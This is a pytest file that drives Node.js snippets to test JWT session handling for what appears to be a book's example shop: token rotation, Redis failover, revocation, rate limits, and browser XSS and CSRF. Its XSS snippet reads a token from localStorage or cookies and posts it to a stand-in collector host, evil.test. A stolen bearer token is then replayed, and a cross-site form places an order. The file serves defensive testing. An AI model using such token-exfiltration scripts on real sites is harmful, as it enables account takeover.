    const store = { ...inner, take: (...given) => { asked += 1; return inner.take(...given); } };
    const sessions = createSessions({ store, secret: randomBytes(32) });
    const { token, sid } = await sessions.start('cus_ann');
    const mac = token.split('.')[2];
    const forged = [undefined, '', 'x', `${sid}.1.${mac}`, `${sid}.0.${'A'.repeat(43)}`,
      `${'A'.repeat(22)}.0.${mac}`, `${token}x`, token.toLowerCase(),
      `${token.slice(0, -4)}AAAA`, `${sid}.00.${mac}`, `\n${token}`];
    for (const text of forged) if (await sessions.rotate(text)) throw new Error(text);
    console.log(asked, await sessions.end('x'), Boolean(await sessions.rotate(token)), asked);
    """
    ).stdout
    assert seen == "0 null true 1\n"


def test_a_session_ends_after_its_life_whatever_is_done_in_between(redis_server):
    seen = node.evaluate(
        f"""
    import {{ Redis }} from 'ioredis';
    import {{ randomBytes }} from 'node:crypto';
    import {{ createSessions }} from './jwt/refresh.mjs';
    import {{ memoryStore, redisStore }} from './jwt/stores.mjs';
    let time = 1e12;
    const sessions = createSessions({{ store: memoryStore({{ life: 100_000 }}),
      secret: randomBytes(32), now: () => time }});
    let {{ token }} = await sessions.start('cus_ann');
    let count = 0;
    for (; token; time += 20_000) {{
      token = (await sessions.rotate(token))?.token;
      count += 1;
    }}
    console.log(count);
    const redis = new Redis('{redis_server.url}');
    const {{ sid }} = await createSessions({{ store: redisStore(redis),
      secret: randomBytes(32) }}).start('cus_ann');
    console.log(await redis.pttl(`session:${{sid}}`) > 29 * 86_400_000);
    redis.disconnect();
    """
    ).stdout
    assert seen.splitlines() == ["6", "true"]


def test_while_redis_is_away_nobody_is_told_to_log_in_again(shop, redis_server):
    with shop(env={"REDIS_URL": redis_server.url}) as server, Tab(server) as tab:
        tab.login()
        redis_server.stop()
        asked = [("GET", "/me"), ("POST", "/refresh"), ("POST", "/logout")]
        for method, path, body in (
            *((*ask, None) for ask in asked),
            ("POST", "/login", ANN),
        ):
            answer = tab.ask(method, path, json=body)
            assert answer.status_code == 503, path
            assert "set-cookie" not in answer.headers


FAILOVER = """
import {{ createServer, connect as dial }} from 'node:net';
import {{ once }} from 'node:events';
import {{ setTimeout as sleep }} from 'node:timers/promises';
import {{ Redis }} from 'ioredis';
import {{ randomBytes }} from 'node:crypto';
import {{ connect }} from './rate-limiting/connect.mjs';
import {{ createSessions }} from './jwt/refresh.mjs';
import {{ redisStore }} from './jwt/stores.mjs';
import {{ createRevocations }} from './jwt/revocations.mjs';
const [one, two] = ['{one}', '{two}'].map((url) => Number(new URL(url).port));
let target = one; // whom a client reaches at the name of the primary
const name = createServer((client) => {{
  const server = dial(target, '127.0.0.1');
  client.pipe(server).pipe(client);
  client.on('error', () => server.destroy());
  server.on('error', () => client.destroy());
}}).listen(0, '127.0.0.1');
await once(name, 'listening');

// as shop.mjs has it, without a word of its own about what may go wrong
const redis = await connect({{ url: `redis://127.0.0.1:${{name.address().port}}`,
  logger: {{ error() {{}} }} }});
const sessions = createSessions({{ store: redisStore(redis), secret: randomBytes(32) }});
const {{ revoke, revoked }} = createRevocations({{ redis }});
const {{ token }} = await sessions.start('cus_ann');

const [first, second] = [new Redis(one), new Redis(two)];
await second.replicaof('127.0.0.1', one);
while (!/master_link_status:up/.test(await second.info('replication'))) await sleep(20);
while ((await second.dbsize()) !== (await first.dbsize())) await sleep(20);
await second.replicaof('NO', 'ONE');
await first.replicaof('127.0.0.1', two);
target = two; // the connections that there are stay with the old primary
first.disconnect();

const statuses = new Set();
async function soon(ask) {{
  for (let left = 200; ; left -= 1) {{
    try {{ return await ask(); }} catch (error) {{
      statuses.add(error.status);
      if (left === 0) throw error;
      await sleep(50);
    }}
  }}
}}
const next = await soon(() => sessions.rotate(token));
const {{ sid }} = await soon(() => sessions.start('cus_bob'));
await soon(() => revoke(sid));
console.log(next.user, await revoked({{ sid }}), await revoked({{ sid: next.sid }}));
console.log(await second.exists(`revoked:${{sid}}`)); // it is the new one that knows
console.log([...statuses].filter((status) => status !== 503).length);
redis.disconnect();
second.disconnect();
name.close();
"""


def test_after_a_failover_logins_refreshes_and_logouts_go_on_without_a_restart(
    redis_server,
):
    with services.redis() as other:
        source = FAILOVER.format(one=redis_server.url, two=other.url)
        seen = node.evaluate(source, timeout=60).stdout
    assert seen.splitlines() == ["cus_ann true false", "1", "0"]


# --- logout and its price -----------------------------------------------------------


@pytest.mark.claim("jwt/logout-is-stateless")
def test_a_stolen_access_token_outlives_the_logout_unless_there_is_a_list(shop):
    assert output("lag.mjs") == [
        "300 s: 240 s after logout, 0 s with a list",
        "900 s: 840 s after logout, 0 s with a list",
        "3600 s: 3540 s after logout, 0 s with a list",
    ]
    for deps, after in (("", 401), ("revoke: async () => {}", 200)):
        with shop(deps=deps) as server, Tab(server) as tab:
            stolen = {"Authorization": f"Bearer {tab.login().cookies[ACCESS]}"}
            assert tab.status("POST", "/logout") == 204
            with server.client(headers=stolen) as thief:
                assert thief.get("/me").status_code == after


# --- where it meets rate limiting ---------------------------------------------------


def test_guesses_at_the_login_are_counted_by_the_login_limiter(tmp_path):
    limits = node.resolve("rate-limiting/failures.mjs").as_uri()
    path = tmp_path / "limited.mjs"
    path.write_text(
        f"import {{ createApp as create }} from '{uri('shop.mjs')}';\n{CHECK}\n"
        f"import {{ failureLimits }} from '{limits}';\n"
        "export async function createApp(deps) {\n"
        "  const store = () => undefined;\n"
        "  const limits = failureLimits({ store, known: () => null });\n"
        "  return create({ ...deps, check, limits });\n}\n"
    )
    wrong = {**ANN, "password": "wrong horse"}
    with node.serve(path, env=ENV) as server, Tab(server) as tab:
        codes = [tab.ask("POST", "/login", json=wrong).status_code for _ in range(7)]
        assert codes == [401] * 5 + [429] * 2
        assert tab.ask("POST", "/login", json=ANN).status_code == 429
        # a session that there was before would go on: refreshes are not guesses
        assert tab.status("POST", "/refresh") == 401


# --- size ---------------------------------------------------------------------------


@pytest.mark.claim("jwt/roles-belong-in-the-token")
def test_a_token_with_all_roles_is_refused_by_the_parser_before_any_route(shop):
    token = "x" * 17_000
    with shop() as server, server.client() as c:
        assert (
            c.get("/me", headers={"Authorization": f"Bearer {token}"}).status_code == 431
        )
        kept = {"Authorization": f"Bearer {token[:12_000]}"}
        assert c.get("/me", headers=kept).status_code == 401


# --- what the notebook measures -----------------------------------------------------


def test_every_subject_of_the_measurements_signs_and_verifies(redis_server):
    seen = node.evaluate(
        f"""
    import {{ Redis }} from 'ioredis';
    import * as cost from './jwt/cost.mjs';
    import {{ speed }} from './jwt/crack.mjs';
    const names = [];
    for (const [name, {{ sign, verify }}] of Object.entries(
      {{ ...cost.subjects(), ...(await cost.ofJose()) }})) {{
      const seen = await cost.measure({{ sign, verify }}, {{ rounds: 1, ms: 1 }});
      if (!(seen.sign[0].all > 0 && seen.verify[0].all > 0)) throw new Error(name);
      names.push(name);
    }}
    const redis = new Redis('{redis_server.url}');
    const ways = await cost.lookups(redis);
    const seen = await cost.measure(ways, {{ rounds: 1, ms: 1, atOnce: 5 }});
    const found = await ways['Redis session']();
    redis.disconnect();
    console.log(names.length, Object.keys(seen).join(), found.sub, speed() > 1000);
    """
    ).stdout
    assert seen == "8 JWT,JWT and a denylist,Redis session cus_ann true\n"


# --- browsers -----------------------------------------------------------------------

# shop.test is the app and its page, which has a hole; evil.test writes down what it is
# sent; blog.shop.test is another host of the same site
HOSTS = """
import {{ createServer }} from 'node:https';
import {{ readFileSync }} from 'node:fs';
import {{ createApp as create }} from '{app}';
{check}
const stolen = [];
const orders = [];
let app;
const pem = readFileSync('{tls}');
const server = createServer({{ key: pem, cert: pem }}, (req, res) => {{
  const host = req.headers.host.split(':')[0];
  if (req.url === '/page') {{
    res.setHeader('Content-Type', 'text/html').end('<title>a page</title><body>');
  }} else if (host === 'shop.test' && req.url === '/placed') {{
    res.end(String(orders.length));
  }} else if (host === 'shop.test') app(req, res);
  else if (req.method === 'POST') {{
    req.setEncoding('utf8').on('data', (text) => stolen.push(text));
    req.on('end', () => res.end());
  }} else res.end(JSON.stringify(stolen));
}});
server.listen(process.env.PORT, '127.0.0.1', async () => {{
  const {{ port }} = server.address();
  const env = {{ ...process.env, ORIGINS: `https://shop.test:${{port}}` }};
  const place = (id) => orders.push(id);
  app = await create({{ env, check, orders, place }});
  console.log(`listening on http://127.0.0.1:${{port}}`);
}});
process.once('SIGTERM', () => {{ server.close(); server.closeAllConnections(); }});
"""


LOGIN = """async (body) => {
  const headers = { 'Content-Type': 'application/json' };
  const answer = await fetch('/login', { method: 'POST', headers,
    body: JSON.stringify(body) });
  if (answer.status === 200) localStorage.token = (await answer.json()).token;
  return answer.status;
}"""
# what a script does that got into the shop's page
XSS = """async (evil) => {
  const body = localStorage.token ?? document.cookie;
  await fetch(evil, { method: 'POST', mode: 'no-cors', body });
  return (await fetch('/orders', { method: 'POST' })).status;
}"""
FORM = """(action) => {
  const form = document.createElement('form');
  Object.assign(form, { action, method: 'POST' });
  document.body.append(form);
  form.submit();
}"""


@pytest.fixture
def site(named_hosts, tmp_path):
    """Serves the hosts around one app; gives the page of somebody who has logged in
    at shop.test, and `host(name)`: its address."""

    tls = browser.certificate(tmp_path, "shop.test", "blog.shop.test", "evil.test")

    @contextlib.contextmanager
    def serve(snippet: str):
        path = tmp_path / "hosts.mjs"
        path.write_text(HOSTS.format(app=uri(snippet), tls=tls, check=CHECK))
        with node.serve(path, env=ENV) as server:

            def host(name: str) -> str:
                return f"https://{name}:{server.port}"

            context = named_hosts()
            context.set_default_timeout(20_000)
            page = context.new_page()
            try:
                page.goto(f"{host('shop.test')}/page")
                assert page.evaluate(LOGIN, ANN) in (200, 204)
                yield page, host
            finally:
                # closed in the middle of a navigation, a page may never answer
                page.goto("about:blank")
                page.close()
                context.clear_cookies()

    return serve


def placed(page, host) -> int:
    page.goto(f"{host('shop.test')}/placed")
    return int(page.inner_text("body"))


@pytest.mark.claim("jwt/httponly-stops-xss")
@pytest.mark.parametrize("snippet", ["app.naive.mjs", "shop.mjs"])
def test_in_a_browser_xss_takes_a_token_from_localstorage_and_rides_a_cookie(
    site, snippet
):
    naive = snippet == "app.naive.mjs"
    with site(snippet) as (page, host):
        assert page.evaluate(XSS, f"{host('evil.test')}/steal") == 201  # it ordered
        assert placed(page, host) == 1
        page.goto(f"{host('evil.test')}/stolen")
        stolen = json.loads(page.inner_text("body"))
        assert (len(stolen) == 1) is naive  # an HttpOnly cookie cannot be read
        if naive:  # and on the attacker's own machine, in peace:
            with httpx.Client(
                base_url=host("127.0.0.1"), verify=False, headers={"Host": "shop.test"}
            ) as mallory:
                bearer = {"Authorization": f"Bearer {stolen[0]}"}
                assert mallory.get("/me", headers=bearer).json() == {"id": "cus_ann"}


@pytest.mark.claim("jwt/jwt-is-immune-to-csrf")
@pytest.mark.parametrize(
    ("snippet", "evil", "sibling"), [("app.naive.mjs", 1, 2), ("shop.mjs", 0, 0)]
)
def test_in_a_browser_another_site_orders_with_the_naive_apps_cookie(
    site, snippet, evil, sibling
):
    with site(snippet) as (page, host):
        orders = f"{host('shop.test')}/orders"
        for name, expected in (("evil.test", evil), ("blog.shop.test", sibling)):
            page.goto(f"{host(name)}/page")
            with page.expect_navigation():
                page.evaluate(FORM, orders)
            assert placed(page, host) == expected
        page.goto(f"{host('shop.test')}/page")
        own = page.evaluate(
            "async () => (await fetch('/orders', {method:'POST'})).status"
        )
        assert own == 201


def test_in_a_browser_same_site_alone_lets_a_sibling_host_order(site):
    with site("shop.mjs") as (page, host):
        orders = f"{host('shop.test')}/orders"
        for name, sent in (("evil.test", False), ("blog.shop.test", True)):
            page.goto(f"{host(name)}/page")
            with page.expect_navigation() as got:
                page.evaluate(FORM, orders)
            cookies = got.value.request.all_headers().get("cookie", "")
            # to the sibling SameSite=Strict is no obstacle: there it was Origin
            assert (f"{ACCESS}=" in cookies) is sent
            assert got.value.status == 403


COOKIE = """(size) => {
  document.cookie = `a=${'x'.repeat(size - 1)}`;
  const kept = document.cookie.includes('a=');
  document.cookie = 'a=; max-age=0';
  return kept;
}"""


def test_in_a_browser_a_cookie_of_more_than_4096_bytes_is_not_kept(site):
    with site("shop.mjs") as (page, _host):
        assert page.evaluate(COOKIE, 4096) is True
        assert page.evaluate(COOKIE, 4097) is False


# --- where tokens meet the REST chapter's orders --------------------------------------

ORDERS = """
import {{ generateKeyPairSync }} from 'node:crypto';
import {{ createAuthenticate }} from '{jwt}/authenticate.mjs';
import {{ createTokens }} from '{jwt}/tokens.mjs';
import {{ away }} from '{jwt}/unavailable.mjs';
import {{ createVerifier }} from '{jwt}/verify.mjs';
import {{ createApp as create }} from '{rest}/orders.mjs';

const names = {{ issuer: 'https://id.shop.test', audience: 'https://api.shop.test' }};
const pair = () => generateKeyPairSync('ec', {{ namedCurve: 'P-256' }});
const ours = pair();
const keys = new Map([['k1', {{ alg: 'ES256', public: ours.publicKey }}]]);
const revoked = async ({{ sid }}) => (sid === 'redis is away' ? away() : sid === 'gone');
const verify = createVerifier({{ ...names, keys }});
const authenticate = createAuthenticate({{ verify, revoked }});
const signed = (privateKey, more, id, sid) =>
  createTokens({{ ...names, ...more, key: {{ kid: 'k1', alg: 'ES256', private: privateKey }} }})({{ id, sid }});
console.log(JSON.stringify({{
  ann: signed(ours.privateKey, {{}}, 'ann', 's-1'),
  bob: signed(ours.privateKey, {{}}, 'bob', 's-2'),
  forged: signed(pair().privateKey, {{}}, 'ann', 's-1'),
  elsewhere: signed(ours.privateKey, {{ audience: 'https://files.shop.test' }}, 'ann', 's-1'),
  revoked: signed(ours.privateKey, {{}}, 'ann', 'gone'),
  asked: signed(ours.privateKey, {{}}, 'ann', 'redis is away'),
}}));
export function createApp(deps) {{ return create({{ ...deps, authenticate }}); }}
"""


def test_tokens_say_whose_the_orders_of_the_rest_chapter_are(tmp_path):
    folder = node.resolve("jwt/verify.mjs").parent.parent.as_uri()
    path = tmp_path / "app.mjs"
    path.write_text(ORDERS.format(jwt=f"{folder}/jwt", rest=f"{folder}/rest-apis"))
    body = {"items": [{"sku": "tea", "quantity": 2}]}
    with node.serve(path) as server, server.client() as c:
        tokens = json.loads(server.output().splitlines()[0])

        def ask(name: str, method: str = "POST", at: str = "/orders", **more):
            headers = {"Idempotency-Key": name, "Authorization": f"Bearer {tokens[name]}"}
            return c.request(method, at, headers=headers, **more)

        mine = ask("ann", json=body)
        assert (mine.status_code, mine.json()["customer"]) == (201, "ann")
        at = mine.headers["Location"]
        assert ask("ann", "GET", at).status_code == 200
        assert ask("bob", "GET", at).status_code == 404
        for name in ("forged", "elsewhere", "revoked"):
            refused = ask(name, json=body)
            assert (refused.status_code, refused.json()["status"]) == (401, 401), name
        assert c.get(at).status_code == 401
        outage = ask("asked", json=body)
        assert (outage.status_code, outage.headers["Retry-After"]) == (503, "5")
        assert len(ask("ann", "GET").json()["items"]) == 1
